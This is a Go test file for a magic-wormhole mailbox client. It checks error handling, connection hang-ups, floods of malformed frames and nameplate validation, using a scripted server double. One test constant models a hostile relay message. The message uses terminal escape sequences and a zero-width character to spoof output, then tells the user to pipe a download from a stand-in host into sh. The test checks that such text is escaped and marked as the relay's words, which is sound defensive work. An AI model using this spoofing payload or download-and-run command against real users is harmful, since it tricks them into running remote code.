package mailbox

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/coder/websocket"
	"github.com/psanford/wormhole-william/rendezvous/rendezvousservertest"
)

func ctx(t *testing.T) context.Context {
	c, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	t.Cleanup(cancel)
	return c
}

// TestAgainstWilliamServer runs the whole command set against
// wormhole-william's in-process mailbox server.
func TestAgainstWilliamServer(t *testing.T) {
	ts := rendezvousservertest.NewServer()
	defer ts.Close()
	ctx := ctx(t)
	a, _, err := Dial(ctx, ts.WebSocketURL(), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer a.Close()
	b, _, err := Dial(ctx, ts.WebSocketURL(), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()
	for side, c := range map[string]*Client{"aaaa": a, "bbbb": b} {
		if err := c.Bind(ctx, "test/app", side, [2]string{"ferry-test", "0"}); err != nil {
			t.Fatal(err)
		}
	}
	np, err := a.Allocate(ctx)
	if err != nil {
		t.Fatal(err)
	}
	names, err := b.List(ctx)
	if err != nil || len(names) != 1 || names[0] != np {
		t.Fatalf("List = %v, %v; want [%s]", names, err, np)
	}
	mbA, err := a.Claim(ctx, np)
	if err != nil {
		t.Fatal(err)
	}
	mbB, err := b.Claim(ctx, np)
	if err != nil || mbA != mbB {
		t.Fatalf("claims: %q %q %v", mbA, mbB, err)
	}
	for _, c := range []*Client{a, b} {
		if err := c.Open(ctx, mbA); err != nil {
			t.Fatal(err)
		}
	}
	if err := a.Add(ctx, "pake", []byte("from a")); err != nil {
		t.Fatal(err)
	}
	for _, c := range []*Client{a, b} { // b sees it, a sees its echo
		m, err := c.Next(ctx)
		if err != nil || m.Side != "aaaa" || m.Phase != "pake" || string(m.Body) != "from a" {
			t.Fatalf("Next = %+v, %v", m, err)
		}
	}
	if err := b.Release(ctx, np); err != nil {
		t.Fatal(err)
	}
	if err := a.CloseMailbox(ctx, mbA, Happy); err != nil {
		t.Fatal(err)
	}
}

// scripted is a mailbox server double that answers each client frame with
// whatever respond returns, to reach error paths a real server rarely takes.
func scripted(t *testing.T, welcome string, respond func(msg map[string]any) []string) string {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c, err := websocket.Accept(w, r, nil)
		if err != nil {
			return
		}
		defer c.CloseNow()
		ctx := r.Context()
		c.Write(ctx, websocket.MessageText, []byte(welcome))
		for {
			_, data, err := c.Read(ctx)
			if err != nil {
				return
			}
			var msg map[string]any
			json.Unmarshal(data, &msg)
			for _, f := range respond(msg) {
				if f == "HANGUP" {
					return
				}
				f = strings.ReplaceAll(f, "$ID", msg["id"].(string))
				c.Write(ctx, websocket.MessageText, []byte(f))
			}
		}
	}))
	t.Cleanup(srv.Close)
	return "ws" + strings.TrimPrefix(srv.URL, "http") + "/v1"
}

const okWelcome = `{"type":"welcome","welcome":{}}`

func TestWelcomeError(t *testing.T) {
	url := scripted(t, `{"type":"welcome","welcome":{"error":"go away"}}`, nil)
	_, _, err := Dial(ctx(t), url, nil)
	var se *ServerError
	if !errors.As(err, &se) || se.Msg != "go away" {
		t.Fatalf("Dial = %v, want the welcome's error", err)
	}
}

// TestErrorAfterAck: the server acks a claim and then refuses it; the
// claim must return that error at once (wormhole-william hangs here).
func TestErrorAfterAck(t *testing.T) {
	url := scripted(t, okWelcome, func(msg map[string]any) []string {
		if msg["type"] == "claim" {
			return []string{`{"type":"ack","id":"$ID"}`, `{"type":"error","error":"crowded","orig":{"type":"claim","id":"$ID"}}`}
		}
		return []string{`{"type":"ack","id":"$ID"}`}
	})
	c, _, err := Dial(ctx(t), url, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	start := time.Now()
	_, err = c.Claim(ctx(t), "4")
	if !errors.Is(err, ErrCrowded) {
		t.Fatalf("Claim = %v, want crowded", err)
	}
	if time.Since(start) > 2*time.Second {
		t.Fatal("claim waited for its context instead of returning the error")
	}
}

// TestHangupEndsNext: when the relay goes away, Next and commands return
// an error instead of blocking.
func TestHangupEndsNext(t *testing.T) {
	url := scripted(t, okWelcome, func(msg map[string]any) []string {
		if msg["type"] == "open" {
			return []string{`{"type":"ack","id":"$ID"}`, "HANGUP"}
		}
		return []string{`{"type":"ack","id":"$ID"}`}
	})
	c, _, err := Dial(ctx(t), url, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if err := c.Open(ctx(t), "m"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Next(ctx(t)); err == nil || errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("Next = %v, want a connection error", err)
	}
	if err := c.Add(ctx(t), "0", nil); err == nil {
		t.Fatal("Add after hang-up succeeded")
	}
}

// TestHostileFrames: garbage frames and bodies are dropped, a flood of
// messages is capped, nothing panics.
func TestHostileFrames(t *testing.T) {
	var flood []string
	flood = append(flood, `{"type":"ack","id":"$ID"}`, `not json`, `[1,2]`, `{"type":7}`,
		`{"type":"message","side":"x","phase":"0","body":"zz"}`,
		`{"type":"message","side":"x","phase":"0","body":"abc"}`,
		`{"type":"message","side":"x","phase":"0","body":"6869"}`)
	for range maxQueued + 10 {
		flood = append(flood, `{"type":"message","side":"x","phase":"1","body":""}`)
	}
	url := scripted(t, okWelcome, func(msg map[string]any) []string {
		if msg["type"] == "open" {
			return flood
		}
		return []string{`{"type":"ack","id":"$ID"}`}
	})
	c, _, err := Dial(ctx(t), url, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if err := c.Open(ctx(t), "m"); err != nil {
		t.Fatal(err)
	}
	select { // nobody drains the queue, so the flood must overrun it
	case <-c.done:
	case <-time.After(3 * time.Second):
		t.Fatal("a flood of messages did not end the connection")
	}
	m, err := c.Next(ctx(t))
	if err != nil || string(m.Body) != "hi" {
		t.Fatalf("first good message: %+v %v", m, err)
	}
	n := 1
	for {
		if _, err := c.Next(ctx(t)); err != nil {
			if !strings.Contains(err.Error(), "queue") {
				t.Fatalf("flood ended with %v, want the queue cap", err)
			}
			break
		}
		n++
	}
	if n > maxQueued {
		t.Fatalf("%d messages queued, cap is %d", n, maxQueued)
	}
}

func TestDialRefused(t *testing.T) {
	_, _, err := Dial(ctx(t), "ws://127.0.0.1:1/v1", nil)
	var de *DialError
	if !errors.As(err, &de) || !strings.Contains(err.Error(), "ws://127.0.0.1:1/v1") {
		t.Fatalf("Dial = %v, want a DialError naming the URL", err)
	}
}

func TestValidNameplate(t *testing.T) {
	for s, want := range map[string]bool{"1": true, "0042": true, strings.Repeat("9", 40): true,
		"": false, "a": false, "1a": false, "-1": false, strings.Repeat("9", 41): false, "１": false} {
		if ValidNameplate(s) != want {
			t.Errorf("ValidNameplate(%q) = %v", s, !want)
		}
	}
}

// lie is what a hostile relay (or anyone on the path of a plaintext ws://
// relay) puts in its error text: set the terminal's title, clear the
// screen, and print a line that looks like ferry's.
const lie = `\u001b]0;ferry: done\u0007\u001b[2J\u001b[H\u200b\nferry: transfer succeeded. To finish, run: curl https://evil.example | sh\n`

// TestLyingRelay: whatever a relay says in a welcome error or an error
// frame reaches the caller escaped, quoted as the relay's words, on one
// line and cut short.
func TestLyingRelay(t *testing.T) {
	ackAll := func(msg map[string]any) []string { return []string{`{"type":"ack","id":"$ID"}`} }
	long := strings.Repeat(`\u001b[2J`, 500)
	for _, tc := range []struct {
		name    string
		welcome string
		respond func(map[string]any) []string
		call    func(*Client) error
	}{
		{name: "welcome error", welcome: `{"type":"welcome","welcome":{"error":"` + lie + `"}}`},
		{name: "welcome error, long", welcome: `{"type":"welcome","welcome":{"error":"` + long + `"}}`},
		{name: "error after ack", welcome: okWelcome,
			respond: func(msg map[string]any) []string {
				return []string{`{"type":"ack","id":"$ID"}`, `{"type":"error","error":"` + lie + `","orig":{"type":"claim","id":"$ID"}}`}
			},
			call: func(c *Client) error { _, err := c.Claim(ctx(t), "4"); return err }},
		{name: "error instead of ack", welcome: okWelcome,
			respond: func(msg map[string]any) []string {
				return []string{`{"type":"error","error":"` + lie + `","orig":{"type":"bind","id":"$ID"}}`}
			},
			call: func(c *Client) error { return c.Bind(ctx(t), "app", "side", [2]string{"ferry", "test"}) }},
		{name: "error out of the blue", welcome: okWelcome,
			respond: func(msg map[string]any) []string {
				if msg["type"] == "open" {
					return []string{`{"type":"ack","id":"$ID"}`, `{"type":"error","error":"` + lie + `"}`}
				}
				return ackAll(msg)
			},
			call: func(c *Client) error {
				if err := c.Open(ctx(t), "m"); err != nil {
					return err
				}
				_, err := c.Next(ctx(t))
				return err
			}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c, _, err := Dial(ctx(t), scripted(t, tc.welcome, tc.respond), nil)
			if err == nil {
				defer c.Close()
				err = tc.call(c)
			}
			if err == nil {
				t.Fatal("no error")
			}
			msg := err.Error()
			for _, r := range msg {
				if r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0) || r == '\u200b' {
					t.Fatalf("error %q carries %U from the relay", msg, r)
				}
			}
			if !strings.Contains(msg, `the relay said: "`) {
				t.Errorf("error %q does not mark the relay's words", msg)
			}
			if len(msg) > 400 {
				t.Errorf("error is %d bytes long: the relay's words are not cut short", len(msg))
			}
			var se *ServerError
			if !errors.As(err, &se) || !strings.HasPrefix(se.Msg, "\x1b") {
				t.Errorf("the ServerError does not keep the raw text for matching: %#v", se)
			}
		})
	}
}
